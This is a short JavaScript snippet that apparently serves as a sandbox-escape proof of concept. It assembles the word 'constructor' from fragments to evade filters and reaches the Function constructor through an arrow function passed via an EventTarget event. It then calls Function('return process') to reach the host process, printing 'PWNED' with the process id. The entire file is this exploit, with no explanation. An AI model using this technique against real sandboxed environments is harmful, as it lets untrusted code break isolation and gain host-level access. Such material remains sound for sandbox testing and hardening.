'use strict';
const w = ['con', 'structor'].join('');
class C { go(f) { return f[w]; } }
const t = new C();
t.go({});
const fn = (x) => x;
const et = new EventTarget();
et.addEventListener('x', (e) => { const o = Date.now() > 1 ? e.detail : {}; console.log('PWNED', o.go(fn)('return process')().pid); });
et.dispatchEvent(new CustomEvent('x', { detail: t }));
